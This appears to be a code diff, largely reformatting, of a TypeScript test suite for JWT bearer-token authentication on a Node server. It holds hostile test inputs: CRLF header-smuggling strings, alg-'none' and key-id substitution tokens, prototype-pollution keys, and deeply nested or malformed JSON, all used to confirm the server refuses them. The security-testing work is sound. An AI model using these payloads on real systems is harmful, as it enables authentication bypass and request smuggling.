     ['two lines, the second Basic', `Bearer ${honest}\r\nauthorization: Basic YTpi`, malformed],
     ['two lines, the first Basic', `Basic YTpi\r\nAUTHORIZATION: Bearer ${honest}`, malformed],
@@ -324,9 +643,11 @@ t.test('an Authorization of any other shape never falls back to the cookie', asy
   ])
 })
 
-t.test('bytes that HTTP forbids in a header end at Node\'s parser, quietly', async (t) => {
+t.test("bytes that HTTP forbids in a header end at Node's parser, quietly", async (t) => {
   for (const forbidden of ['\0', '\x01', '\x0b', '\x1b', '\x7f', '\rX: y', '\nX y']) {
-    const [answer, ...more] = await exchange(server, [get(cookie, `Authorization: Bearer ${honest}${forbidden}${honest}`)])
+    const [answer, ...more] = await exchange(server, [
+      get(cookie, `Authorization: Bearer ${honest}${forbidden}${honest}`)
+    ])
     t.strictSame([answer?.status, more.length], [400, 0], JSON.stringify(forbidden))
   }
   const smuggled = await exchange(server, [get('Authorization: Bearer x\r\nX-Evil: y', cookie)])
@@ -336,7 +657,7 @@ t.test('bytes that HTTP forbids in a header end at Node\'s parser, quietly', asy
 
 t.test('size: 8 KiB is the most, and a megabyte does no harm', async (t) => {
   const sized = (length: number) => {
-    for (let pad = Math.floor(length * 3 / 4) - 400; ; pad++) {
+    for (let pad = Math.floor((length * 3) / 4) - 400; ; pad++) {
       const token = forge(signers.hs, { claims: { pad: 'x'.repeat(pad) } })
       if (token.length >= length) return token
     }
@@ -361,7 +682,11 @@ t.test('size: 8 KiB is the most, and a megabyte does no harm', async (t) => {
   await usual.app.listen({ port: 0, host: '127.0.0.1' })
   t.teardown(() => usual.app.close())
   const refused = await exchange(usual, [get(`Authorization: Bearer ${'a'.repeat(32 << 10)}`)])
-  t.strictSame([refused.map(({ status }) => status), usual.complaints()], [[431], []], 'Node\'s own limit comes first, with its own answer')
+  t.strictSame(
+    [refused.map(({ status }) => status), usual.complaints()],
+    [[431], []],
+    "Node's own limit comes first, with its own answer"
+  )
 })
 
 t.test('JSON of every odd kind: depth, duplicates, encodings, types', async (t) => {
@@ -369,16 +694,76 @@ t.test('JSON of every odd kind: depth, duplicates, encodings, types', async (t) 
   const head = JSON.stringify({ alg: 'EdDSA', typ: 'at+jwt', kid: 'ed' })
   const good = JSON.stringify(goodClaims)
   const nest = (depth: number, open = '[', close = ']') => open.repeat(depth) + close.repeat(depth)
-  const notObjects = ['null', 'true', 'false', '0', '1', '-1', '""', '"alice"', '[]', `[${good}]`, `[${head}]`, '', ' ', '{', '}', '{}{}', `${good}${good}`, `${good},`, '{"a":1,}', "{'sub':'alice'}", '{sub:1}', '{"a":NaN}', '{"a":Infinity}', '{"a":undefined}', '{"a":01}', '{"a":+1}', '{"a":.5}', '{"a":0x10}', '{"a":"\t"}', '{"a":"\\x41"}', `/**/${good}`, `\ufeff${good}`, `${good}\0`, `\0${good}`, '{"a"', nest(100_000), `{"a":${nest(100_000)}}`, nest(2900), `{"a":${nest(2900)}`, '['.repeat(5800), '{"a":'.repeat(1100)]
-  const bytes = [Buffer.from('{"a":"\xff"}', 'latin1'), Buffer.from([0xef, 0xbb, 0xbf, ...Buffer.from(good)]), Buffer.from(good, 'utf16le'), Buffer.from('{"a":"\xc0\xaf"}', 'latin1'), Buffer.from('{"a":"\xed\xa0\x80"}', 'latin1'), Buffer.from('{"a":"\xf4\x90\x80\x80"}', 'latin1'), Buffer.from('{"a":"\xe2\x82"}', 'latin1'), Buffer.from([0x1f, 0x8b, 8, 0]), randomBytes(64)]
-  const tooLong = (token: string) => token.length > 8192 ? malformed : invalid
+  const notObjects = [
+    'null',
+    'true',
+    'false',
+    '0',
+    '1',
+    '-1',
+    '""',
+    '"alice"',
+    '[]',
+    `[${good}]`,
+    `[${head}]`,
+    '',
+    ' ',
+    '{',
+    '}',
+    '{}{}',
+    `${good}${good}`,
+    `${good},`,
+    '{"a":1,}',
+    "{'sub':'alice'}",
+    '{sub:1}',
+    '{"a":NaN}',
+    '{"a":Infinity}',
+    '{"a":undefined}',
+    '{"a":01}',
+    '{"a":+1}',
+    '{"a":.5}',
+    '{"a":0x10}',
+    '{"a":"\t"}',
+    '{"a":"\\x41"}',
+    `/**/${good}`,
+    `\ufeff${good}`,
+    `${good}\0`,
+    `\0${good}`,
+    '{"a"',
+    nest(100_000),
+    `{"a":${nest(100_000)}}`,
+    nest(2900),
+    `{"a":${nest(2900)}`,
+    '['.repeat(5800),
+    '{"a":'.repeat(1100)
+  ]
+  const bytes = [
+    Buffer.from('{"a":"\xff"}', 'latin1'),
+    Buffer.from([0xef, 0xbb, 0xbf, ...Buffer.from(good)]),
+    Buffer.from(good, 'utf16le'),
+    Buffer.from('{"a":"\xc0\xaf"}', 'latin1'),
+    Buffer.from('{"a":"\xed\xa0\x80"}', 'latin1'),
+    Buffer.from('{"a":"\xf4\x90\x80\x80"}', 'latin1'),
+    Buffer.from('{"a":"\xe2\x82"}', 'latin1'),
+    Buffer.from([0x1f, 0x8b, 8, 0]),
+    randomBytes(64)
+  ]
+  const tooLong = (token: string) => (token.length > 8192 ? malformed : invalid)
   const asPayload = [...notObjects, ...bytes].map((claims) => forge(ed, { claims }))
-  const asHeader = [...notObjects.map((header) => header === good ? '' : header), ...bytes].map((header) => forge(ed, { header }))
+  const asHeader = [...notObjects.map((header) => (header === good ? '' : header)), ...bytes].map((header) =>
+    forge(ed, { header })
+  )
   const before = (member: string) => forge(ed, { claims: good.replace('{', `{${member},`) })
   const after = (member: string, header = head) => forge(ed, { header, claims: `${good.slice(0, -1)},${member}}` })
   await refusesAll(t, [
-    ...asPayload.map((token, index) => [`payload ${String(notObjects[index] ?? 'of odd bytes').slice(0, 20)}`, token, tooLong(token)] as const),
-    ...asHeader.map((token, index) => [`header ${String(notObjects[index] ?? 'of odd bytes').slice(0, 20)}`, token, tooLong(token)] as const),
+    ...asPayload.map(
+      (token, index) =>
+        [`payload ${String(notObjects[index] ?? 'of odd bytes').slice(0, 20)}`, token, tooLong(token)] as const
+    ),
+    ...asHeader.map(
+      (token, index) =>
+        [`header ${String(notObjects[index] ?? 'of odd bytes').slice(0, 20)}`, token, tooLong(token)] as const
+    ),
     ['alg twice, none last', forge(ed, { header: `${head.slice(0, -1)},"alg":"none"}` })],
     ['kid twice, a foreign one last', forge(ed, { header: `${head.slice(0, -1)},"kid":"es"}` })],
     ['crit in escapes', forge(ed, { header: `${head.slice(0, -1)},"\\u0063rit":["exp"]}` })],
@@ -396,7 +781,11 @@ t.test('JSON of every odd kind: depth, duplicates, encodings, types', async (t) 
   ])
   await presents(t, [
     ['a nest of 2900 in a signed claim does no harm', `Bearer ${before(`"deep":${nest(2900)}`)}`, passed],
-    ['nor do a thousand objects', `Bearer ${before(`"deep":${nest(900, '{"a":', '}').replace('{"a":}', '{}')}`)}`, passed],
+    [
+      'nor do a thousand objects',
+      `Bearer ${before(`"deep":${nest(900, '{"a":', '}').replace('{"a":}', '{}')}`)}`,
+      passed
+    ],
     ['nor constructor', `Bearer ${before('"constructor":{"prototype":{"x":1}},"toString":1,"then":1')}`, passed]
   ])
   t.equal(({} as { roles?: unknown }).roles, undefined, 'no prototype was touched')
@@ -404,15 +793,54 @@ t.test('JSON of every odd kind: depth, duplicates, encodings, types', async (t) 
 
 t.test('claims that are missing or ill-typed, under a right signature', async (t) => {
   const { ed } = signers
-  const odd: unknown[] = [undefined, null, true, false, 0, -1, 1.5, '', ' ', 'x', '123', [], [1], {}, { toString: 1 }, [[]]]
+  const odd: unknown[] = [
+    undefined,
+    null,
+    true,
+    false,
+    0,
+    -1,
+    1.5,
+    '',
+    ' ',
+    'x',
+    '123',
+    [],
+    [1],
+    {},
+    { toString: 1 },
+    [[]]
+  ]
   const times = [...odd, -now, now + 0.5, String(now + 60), [now + 60], Number.MAX_SAFE_INTEGER, 2 ** 53, 1e300]
   // Whole numbers in the past are times like any other: a token of those has expired, or lives too long.
-  const wanted = (name: string, value: unknown) => name === 'exp' && Number.isSafeInteger(value) && (value as number) <= now ? expired : invalid
+  const wanted = (name: string, value: unknown) =>
+    name === 'exp' && Number.isSafeInteger(value) && (value as number) <= now ? expired : invalid
   await refusesAll(t, [
-    ...['iss', 'aud', 'sub'].flatMap((name) => odd.filter((value) => !(name === 'sub' && typeof value === 'string' && value !== '')).map((value) => [`${name} ${JSON.stringify(value)}`, forge(ed, { claims: { [name]: value } })] as const)),
-    ...['exp', 'iat'].flatMap((name) => times.map((value) => [`${name} ${JSON.stringify(value)}`, forge(ed, { claims: { [name]: value } }), wanted(name, value)] as const)),
-    ...['jti', 'sid'].flatMap((name) => odd.filter((value) => typeof value !== 'string' && value !== undefined).map((value) => [`${name} ${JSON.stringify(value)}`, forge(ed, { claims: { [name]: value } })] as const)),
-    ...['1e400', '-1e400', '1e309', `${now}.5`, '9007199254740993', `${'9'.repeat(400)}`].flatMap((literal) => ['exp', 'iat'].map((name) => [`${name} ${literal.slice(0, 20)}`, forge(ed, { claims: JSON.stringify({ ...goodClaims, [name]: 'x' }).replace('"x"', literal) })] as const)),
+    ...['iss', 'aud', 'sub'].flatMap((name) =>
+      odd
+        .filter((value) => !(name === 'sub' && typeof value === 'string' && value !== ''))
+        .map((value) => [`${name} ${JSON.stringify(value)}`, forge(ed, { claims: { [name]: value } })] as const)
+    ),
+    ...['exp', 'iat'].flatMap((name) =>
+      times.map(
+        (value) =>
+          [`${name} ${JSON.stringify(value)}`, forge(ed, { claims: { [name]: value } }), wanted(name, value)] as const
+      )
+    ),
+    ...['jti', 'sid'].flatMap((name) =>
+      odd
+        .filter((value) => typeof value !== 'string' && value !== undefined)
+        .map((value) => [`${name} ${JSON.stringify(value)}`, forge(ed, { claims: { [name]: value } })] as const)
+    ),
+    ...['1e400', '-1e400', '1e309', `${now}.5`, '9007199254740993', `${'9'.repeat(400)}`].flatMap((literal) =>
+      ['exp', 'iat'].map(
+        (name) =>
+          [
+            `${name} ${literal.slice(0, 20)}`,
+            forge(ed, { claims: JSON.stringify({ ...goodClaims, [name]: 'x' }).replace('"x"', literal) })
+          ] as const
+      )
+    ),
     ['expired a second ago', forge(ed, { claims: { exp: now - 1 } }), expired],
     ['not valid yet', forge(ed, { claims: { nbf: now + 6 } })],
     ['issued tomorrow', forge(ed, { claims: { iat: now + 86_400, exp: now + 87_000 } })],
@@ -426,17 +854,21 @@ t.test('claims that are missing or ill-typed, under a right signature', async (t
   const renamed = forge({ ...serverOf('the secret of another server, of 32 bytes'), kid: serverOf(secret).kid })
   for (const token of [theirs, renamed, honest]) {
     const response = await here.app.inject({ url: '/me', headers: { authorization: `Bearer ${token}` } })
-    t.strictSame([response.statusCode, response.json().code, response.headers['www-authenticate']], [401, 'AUTH_INVALID_TOKEN', challenges.invalid], 'a token of another server is refused')
+    t.strictSame(
+      [response.statusCode, response.json().code, response.headers['www-authenticate']],
+      [401, 'AUTH_INVALID_TOKEN', challenges.invalid],
+      'a token of another server is refused'
+    )
   }
 })
 
 /** A random number generator of a fixed seed (mulberry32): the same mutations in every run. */
-function createRandom (seed: number) {
-  return function below (limit: number): number {
-    seed = seed + 0x6d2b79f5 | 0
-    let mixed = Math.imul(seed ^ seed >>> 15, seed | 1)
-    mixed ^= mixed + Math.imul(mixed ^ mixed >>> 7, mixed | 61)
-    return ((mixed ^ mixed >>> 14) >>> 0) % limit
+function createRandom(seed: number) {
+  return function below(limit: number): number {
+    seed = (seed + 0x6d2b79f5) | 0
+    let mixed = Math.imul(seed ^ (seed >>> 15), seed | 1)
+    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61)
+    return ((mixed ^ (mixed >>> 14)) >>> 0) % limit
   }
 }
 
@@ -456,21 +888,42 @@ t.test('no mutation of a good token is a good token', async (t) => {
     (token, at) => token.slice(0, at) + (token[at + 1] ?? '') + token[at] + token.slice(at + 2),
     (token, at) => token.slice(0, at) + String.fromCharCode(token.charCodeAt(at) ^ 1) + token.slice(at + 1),
     (token, at) => token.slice(0, at) + token.slice(at, at + 40) + token.slice(at),
-    (token) => token.split('.').sort(() => below(2) - 0.5).join('.')
+    (token) =>
+      token
+        .split('.')
+        .sort(() => below(2) - 0.5)
+        .join('.')
   ]
-  const honestOnes = [honest, ...[signers.hs, signers.es, signers.ed].map((signer) => forge(signer, { claims: { sid: 'session', jti: 'x' } }))]
+  const honestOnes = [
+    honest,
+    ...[signers.hs, signers.es, signers.ed].map((signer) => forge(signer, { claims: { sid: 'session', jti: 'x' } }))
+  ]
   const mutants = Array.from({ length: 4000 }, (_, index) => {
     const token = honestOnes[index % honestOnes.length]!
     return mutations[below(mutations.length)]!(token, below(token.length)).trim()
   }).filter((mutant) => !honestOnes.includes(mutant))
   t.ok(mutants.length > 3500, `${mutants.length} mutants`)
 
-  const answers = await exchange(server, mutants.map((mutant) => get(cookie, `Authorization: Bearer ${mutant}`)))
+  const answers = await exchange(
+    server,
+    mutants.map((mutant) => get(cookie, `Authorization: Bearer ${mutant}`))
+  )
   t.equal(answers.length, mutants.length)
   const known = [invalid, malformed].map((answer) => JSON.stringify(answer))
-  t.strictSame(mutants.filter((_, index) => !known.includes(JSON.stringify(answers[index]))), [], 'each is refused, with 400 or 401, and its challenge')
+  t.strictSame(
+    mutants.filter((_, index) => !known.includes(JSON.stringify(answers[index]))),
+    [],
+    'each is refused, with 400 or 401, and its challenge'
+  )
   t.ok(answers.some(({ status }) => status === 400) && answers.some(({ status }) => status === 401))
   t.strictSame(server.complaints(), [])
   t.strictSame(decode(honest, 1).sub, 'alice')
-  t.strictSame(await exchange(server, honestOnes.map((token) => get(`Authorization: Bearer ${token}`))), honestOnes.map(() => passed), 'and the good ones are good still')
+  t.strictSame(
+    await exchange(
+      server,
+      honestOnes.map((token) => get(`Authorization: Bearer ${token}`))
+    ),
+    honestOnes.map(() => passed),
+    'and the good ones are good still'
+  )
 })
